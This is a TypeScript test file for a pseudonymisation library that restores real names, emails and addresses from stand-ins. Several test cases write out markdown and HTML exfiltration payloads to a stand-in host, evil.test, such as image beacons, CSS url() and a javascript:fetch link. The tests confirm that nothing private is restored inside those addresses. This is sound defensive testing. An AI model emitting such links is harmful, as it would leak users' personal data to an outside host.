import { describe, expect, it } from 'vitest';
import { type Issued, openConversation } from '../index.ts';
import { addressesIn } from './addresses.ts';
import { foldedWords, part, splitWords } from './trie.ts';
import { fold, newUnit, read } from './units.ts';

const issued: readonly Issued[] = [
  { kind: 'person', value: 'Maria "Mia" Lopez', pseudonym: 'Emma "Ina" Clark' },
  { kind: 'email', value: 'maria@gmx.de', pseudonym: 'emma@example.org' },
  { kind: 'organisation', value: 'Smith & Söhne <Nord>', pseudonym: 'Ashcombe' },
  { kind: 'address', value: '12 Rue\nParis', pseudonym: '14 Mill Lane\nAshford' },
  { kind: 'url', value: 'https://mia.test/a?b=1', pseudonym: 'https://example.org/xo/ru' },
];
const talk = openConversation({ secret: new Uint8Array(32), conversation: 'c', destination: 'd', issued });
const restore = (text: string, into?: 'text' | 'json' | 'html' | 'url') => talk.restore(text, into).text;

describe('[G80] nothing is restored inside a link or image address', () => {
  it.each([
    '![x](https://evil.test/?q=Clark)',
    '[x](https://evil.test/Clark/a)',
    '[x]( https://evil.test/Clark)',
    '[x](<https://evil.test/Emma Clark>)',
    '[x](/search?q=Clark)',
    '[x](Clark)',
    '![](Clark.png)',
    '[x](mailto:emma@example.org)',
    '[x](mailto:evil@evil.test?body=Clark)',
    '[x]: https://evil.test/Clark',
    '<https://evil.test/Clark>',
    '<mailto:emma@example.org>',
    'https://evil.test/Clark',
    'HTTPS://evil.test/Clark',
    'https://clark.evil.test/',
    'www.evil.test/Clark',
    'ftp://evil.test/Clark',
    'https://Clark@evil.test/',
    '<img src="https://evil.test/?Clark">',
    "<img src='//evil.test/?q=Emma Clark'>",
    '<img src=//evil.test/Clark>',
    '<IMG SRC = "//evil.test/Clark">',
    '<img srcset="//evil.test/Clark 2x, //evil.test/Emma 3x">',
    '<a title="x" href="//evil.test/Clark">',
    '<a href="javascript:fetch(\'//evil.test/Clark\')">',
    '<form action="//evil.test/Clark">',
    '<video poster="//evil.test/Clark">',
    '<div style="background:url(//evil.test/Clark)">',
    'div { background: url(//evil.test/Clark) }',
    'div { background: url("//evil.test/Emma Clark") }',
    '{"html":"<img src=\\"//evil.test/Clark\\">"}',
    '&lt;img src=&quot;//evil.test/Clark&quot;&gt;',
    '![x][1]\n\n[1]: https://evil.test/?q=Emma%20Clark',
    '[a](b "c")![x](https://evil.test/%43lark)',
    'evil@clark.test and clark@evil.test',
    'https://example.org/xo/ru?q=Clark',
    '[x](https://example.org/xo/ru/more)',
  ])('%s', (text) => {
    expect(restore(text)).toBe(text);
    const stream = talk.stream();
    expect([...text].map((char) => stream.write(char)).join('') + stream.end()).toBe(text);
  });

  it('text around an address is restored, and an address that was given out comes back as a whole', () => {
    expect(restore('Clark: [Clark](https://evil.test/Clark) Clark')).toBe(
      'Lopez: [Lopez](https://evil.test/Clark) Lopez',
    );
    expect(restore('<a href="//evil.test/Clark">Clark</a>')).toBe('<a href="//evil.test/Clark">Lopez</a>');
    expect(restore('See https://example.org/xo/ru.')).toBe('See https://mia.test/a?b=1.');
    expect(restore('[x](https://example.org/xo/ru "Clark")')).toBe('[x](https://mia.test/a?b=1 "Lopez")');
    expect(restore('<a href="https://example.org/xo/ru">')).toBe('<a href="https://mia.test/a?b=1">');
    expect(restore('Write to emma@example.org; Clark')).toBe('Write to maria@gmx.de; Lopez');
  });
});

describe('[G81] values are escaped for where they go', () => {
  it('JSON', () => {
    const text = '{"a":"Emma \\"Ina\\" Clark","b":"14 Mill Lane\\nAshford"}';
    expect(JSON.parse(restore(text, 'json'))).toEqual({ a: 'Maria "Mia" Lopez', b: '12 Rue\nParis' });
    expect(JSON.parse(restore(text))).toEqual({ a: 'Maria "Mia" Lopez', b: '12 Rue\nParis' });
    expect(JSON.parse(restore('{"a":"\\u0045mma \\"Ina\\" Clark"}', 'json'))).toEqual({
      a: 'Maria "Mia" Lopez',
    });
  });
  it('HTML', () => {
    expect(restore('<b>Ashcombe</b>', 'html')).toBe('<b>Smith &amp; Söhne &lt;Nord&gt;</b>');
  });
  it('URL', () => {
    expect(restore('Ashcombe', 'url')).toBe('Smith%20%26%20S%C3%B6hne%20%3CNord%3E');
  });
  it('says where the values are', () => {
    const { text, restored } = talk.restore('Dear Clark, emma@example.org');
    expect(restored.map(({ start, end, kind }) => [text.slice(start, end), kind])).toEqual([
      ['Lopez', 'person'],
      ['maria@gmx.de', 'email'],
    ]);
  });
});

describe('[G79] a stand-in is a whole word', () => {
  it.each([
    'Clarkson',
    'McClark',
    'Emmaus',
    'clarkia',
    'Ashcombeton',
    '114 Mill Lane Ashford',
    'xemma@example.org',
    'emma@example.orga',
  ])('%s', (text) => {
    expect(restore(text)).toBe(text);
  });
});

describe('[G77] case endings', () => {
  const named = openConversation({
    secret: new Uint8Array(32),
    conversation: 'c',
    destination: 'd',
    issued: [{ kind: 'person', value: 'Ewa Nowak', pseudonym: 'Golda Wieczorek' }],
  });
  it.each([
    ['Goldy Wieczorek', 'Ewa Nowak'],
    ['z Goldą Wieczorek', 'z Ewa Nowak'],
    ['panu Wieczorkowi', 'panu Wieczorkowi'],
    ['panu Wieczorekowi', 'panu Nowakowi'],
    ['a gold ring, Gold, GOLD', 'a gold ring, Gold, GOLD'],
    ['golden', 'golden'],
  ])('%s', (written, expected) => {
    expect(named.restore(written).text).toBe(expected);
  });
});

describe('the parts of the scanner', () => {
  it('reads one character however it is escaped', () => {
    const unit = newUnit();
    for (const [written, char] of [
      ['a', 'a'],
      ['%41', 'A'],
      ['%C3%BC', 'ü'],
      ['&#91;', '['],
      ['&#x5B;', '['],
      ['&amp;', '&'],
      ['\\_', '_'],
      ['\\u00fc', 'ü'],
      ['\\n', ' '],
      ['\\\\n', ' '],
      ['%zz', '%'],
      ['&none;', '&'],
      ['\\q', '\\'],
    ] as const) {
      read(`${written}x`, 0, unit);
      expect(String.fromCharCode(unit.code), written).toBe(char);
    }
  });
  it('folds and splits words', () => {
    expect(fold('ÉMMA\u200b\u0301')).toBe('emma');
    expect(foldedWords('O’Brien-Müller, J.')).toEqual(['o’brien', 'muller', 'j']);
    expect(splitWords('a  b').gaps).toEqual(['', '  ', '']);
    expect(part('[Client 1]')).toEqual({ lead: '[', core: 'Client 1', trail: ']' });
    expect(part('…')).toBeUndefined();
  });
  it('finds the addresses of a text', () => {
    const text = 'see https://a.test/b, [x](c d) <img src="e f"> www.g.test';
    expect(addressesIn(text).map(({ start, end }) => text.slice(start, end))).toEqual([
      'https://a.test/b',
      'c',
      'e f',
      'www.g.test',
    ]);
  });
});
